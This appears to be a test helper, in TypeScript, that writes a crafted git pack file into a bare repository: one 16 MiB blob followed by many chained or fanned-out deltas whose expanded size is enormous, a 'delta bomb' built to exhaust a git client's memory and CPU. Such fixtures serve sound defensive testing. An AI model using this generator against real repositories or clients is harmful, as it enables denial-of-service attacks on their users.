import { createHash } from "node:crypto"
import { writeFileSync } from "node:fs"
import { join } from "node:path"
import { crc32, deflateSync } from "node:zlib"

/** A pack's object: how it is stored, its header's type and size, and its content before compression. */
type Stored = { readonly id: string; readonly type: number; readonly base?: string; readonly content: Buffer }

const BLOB = 3
const REF_DELTA = 7
/** Max bytes that one instruction of a delta copies from its base. */
const MAX_COPY_BYTES = 0xff_ff_ff

/**
 * Writes a pack of one blob of 16 MiB and `count` deltas, each of whose results repeats its base `copies`
 * times. The base is the previous result if `isChain`, else the blob. The ids of the results are not the
 * hashes of their content, because computing those would cost what the client must not spend. Returns all
 * ids.
 */
export function writeDeltaBomb(bare: string, count: number, copies: number, isChain: boolean): string[] {
  const blob = Buffer.alloc(MAX_COPY_BYTES)
  const first = createHash("sha1").update(`blob ${blob.length}\0`).update(blob).digest("hex")
  const stored: Stored[] = [{ id: first, type: BLOB, content: blob }]
  for (let at = 0; at < count; at++) {
    const content = delta(blob.length, copies, at)
    const id = createHash("sha1").update(`${at}`).digest("hex")
    stored.push({ id, type: REF_DELTA, base: isChain ? stored.at(-1)!.id : first, content })
  }
  writePack(bare, stored)
  return stored.map(({ id }) => id)
}

/**
 * A delta whose result repeats the base `copies` times, each time without its last four bytes, and ends with
 * the number `unique`.
 */
function delta(baseBytes: number, copies: number, unique: number): Buffer {
  const own = Buffer.alloc(4)
  own.writeUInt32BE(unique)
  const copied = MAX_COPY_BYTES - own.length
  const copy = Buffer.from([0b1111_0000, copied & 0xff, (copied >> 8) & 0xff, copied >> 16])
  const instructions = Array<Buffer>(copies).fill(copy)
  return Buffer.concat([
    varint(baseBytes),
    varint(copies * copied + own.length),
    ...instructions,
    Buffer.from([own.length]),
    own,
  ])
}

/** A pack and its index, as git stores them in a repository. */
function writePack(bare: string, stored: readonly Stored[]): void {
  const head = Buffer.from("PACK\0\0\0\x02\0\0\0\0")
  head.writeUInt32BE(stored.length, 8)
  const parts: Buffer[] = [head]
  const entries: { readonly id: string; readonly crc: number; readonly offset: number }[] = []
  let offset = head.length
  for (const { id, type, base, content } of stored) {
    const entry = Buffer.concat([
      entryHead(type, content.length),
      Buffer.from(base ?? "", "hex"),
      deflateSync(content),
    ])
    entries.push({ id, crc: crc32(entry), offset })
    parts.push(entry)
    offset += entry.length
  }
  const pack = signed(Buffer.concat(parts))
  entries.sort((a, b) => (a.id < b.id ? -1 : 1))
  const below = (byte: number) =>
    entries.filter(({ id }) => Number.parseInt(id.slice(0, 2), 16) <= byte).length
  const index = Buffer.concat([
    Buffer.from([0xff, 0x74, 0x4f, 0x63, 0, 0, 0, 2]),
    uint32(Array.from({ length: 256 }, (_, byte) => below(byte))),
    Buffer.from(entries.map(({ id }) => id).join(""), "hex"),
    uint32(entries.map(({ crc }) => crc)),
    uint32(entries.map((entry) => entry.offset)),
    pack.subarray(-20),
  ])
  const path = join(bare, "objects", "pack", `pack-${pack.subarray(-20).toString("hex")}`)
  writeFileSync(`${path}.pack`, pack)
  writeFileSync(`${path}.idx`, signed(index))
}

/** Type and size: four bits of the size in the first byte, seven in each further one. */
function entryHead(type: number, size: number): Buffer {
  const rest = size >>> 4
  const first = (type << 4) | (size & 0x0f)
  return rest === 0 ? Buffer.from([first]) : Buffer.concat([Buffer.from([first | 0x80]), varint(rest)])
}

function varint(value: number): Buffer {
  const bytes: number[] = []
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest])
    bytes.push((rest % 128) | 0x80)
  }
}

function uint32(numbers: readonly number[]): Buffer {
  const bytes = Buffer.alloc(4 * numbers.length)
  for (const [at, number] of numbers.entries()) bytes.writeUInt32BE(number, 4 * at)
  return bytes
}

function signed(bytes: Buffer): Buffer {
  return Buffer.concat([bytes, createHash("sha1").update(bytes).digest()])
}
